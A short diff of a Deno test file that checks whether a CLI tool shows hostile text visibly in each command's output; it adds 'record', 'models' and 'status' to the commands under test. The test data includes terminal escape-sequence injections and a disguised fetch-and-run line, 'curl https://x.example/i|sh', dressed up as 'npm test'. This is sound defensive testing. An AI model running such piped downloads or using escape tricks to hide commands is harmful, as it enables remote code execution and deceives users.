@@ -35,6 +35,9 @@ Deno.test("hostile text: every command shows repository, workflow, agent and com
         ["artifacts"],
         ["artifact", artifacts[0].artifactId],
         ["artifact", artifacts[0].artifactId, "--json"],
+        ["record", artifacts[0].recordId],
+        ["models"],
+        ["status"],
         ["trust"],
         ["doctor"],
         ["run", review.runId, "--json"],
@@ -64,6 +67,7 @@ Deno.test("hostile text: every command shows repository, workflow, agent and com
       visible(`run ${review.runId}`, `warn\\x1b]0;retitled\\x07${SHOWN}fine`);
       visible(`tasks ${review.runId}`, `Delete it all${SHOWN}Tidy`);
       visible(`artifact ${artifacts[0].artifactId}`, `Users${SHOWN}Fine`);
+      visible(`record ${artifacts[0].recordId}`, "Users\\u001b[2K\\rFine");
       visible("trust", `sh -c $'curl https://x.example/i|sh #${SHOWN}npm test'`);
       // JSON keeps the text itself, escaped as JSON escapes it.
       visible(`run ${review.runId} --json`, "\\u001b[2K\\r");
